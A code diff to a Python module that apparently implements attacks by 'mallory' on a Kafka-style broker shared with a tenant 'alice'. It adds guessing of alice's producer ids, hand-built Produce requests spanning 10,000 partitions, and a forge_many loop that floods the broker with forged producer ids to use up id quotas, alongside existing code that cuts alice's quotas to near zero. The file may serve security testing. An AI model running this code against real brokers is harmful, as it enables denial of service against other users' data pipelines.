@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import itertools
+import struct
 from collections.abc import Callable, Sequence
 from dataclasses import dataclass
 from typing import Any, Final
@@ -17,8 +19,8 @@ DELETE_GROUPS, DESCRIBE_QUOTAS, ALTER_QUOTAS = (42, 1), (48, 1), (49, 1)
 ALICES: Final = ["alice-data", "alice-ids", "alice-metered", "alice-share"]
 """Topics that alice writes to."""
 KIB, MIB = 1 << 10, 1 << 20
-NEAR: Final = range(-40, 20)
-"""Where ids of alice's producers are, from one that was given out just now."""
+NEAR: Final = (*range(-1, -10, -1), *range(5), *range(-10, -40, -1))
+"""Where ids of alice's producers are, from one that was given out just now; the likeliest first."""
 BETWEEN_LOGINS: Final = 0.1
 """Seconds between two logins, after one did not succeed."""
 
@@ -73,8 +75,39 @@ def near(a: Attacker, number: int) -> int:
     return max(a.target.near_id + NEAR[number % len(NEAR)], 0)
 
 
+def wide(client_id: str, topic: str, partitions: int, records: bytes) -> bytes:
+    """A Produce request v7 with the same records for so many partitions of one topic, by hand as that takes no time."""
+
+    def text(value: str) -> bytes:
+        return struct.pack(">h", len(value)) + value.encode()
+
+    each = struct.pack(">i", len(records)) + records
+    body = b"".join(struct.pack(">i", i) + each for i in range(partitions))
+    head = struct.pack(">hhi", *PRODUCE, 1) + text(client_id) + struct.pack(">hhii", -1, -1, 1000, 1) + text(topic)
+    frame = head + struct.pack(">i", partitions) + body
+    return struct.pack(">i", len(frame)) + frame
+
+
 def lower_alice() -> dict[str, Any]:
     """The fields of an AlterClientQuotas request that takes all from alice."""
     keys = ("controller_mutations_rate", "producer_ids_rate", "cluster_producer_byte_rate", "cluster_request_rate")
     ops = [{"key": key, "value": 0.001, "remove": False} for key in keys]
     return {"entries": [{"entity": [{"entity_type": "user", "entity_name": "alice"}], "ops": ops}], "validate_only": False}
+
+
+def forge_many(a: Attacker, address: str) -> None:
+    """Requests of 10,000 partitions under ids that nobody has. The first ones use up how many new ids she may bring."""
+    for id in itertools.count(1 << 40, 1000):
+        if not a.going():
+            return
+        with a.connected(at=address) as connection:
+            connection.sock.settimeout(10)
+            for more in range(1000):
+                if not a.going():
+                    return
+                frame = wide("mallory-app", "mallory-full", 10_000, forged(id + more, size=1))
+                connection.sock.sendall(frame)
+                a.tally.requests += 1
+                a.tally.bytes += len(frame)
+                connection.frame()
+                a.tally.answers += 1
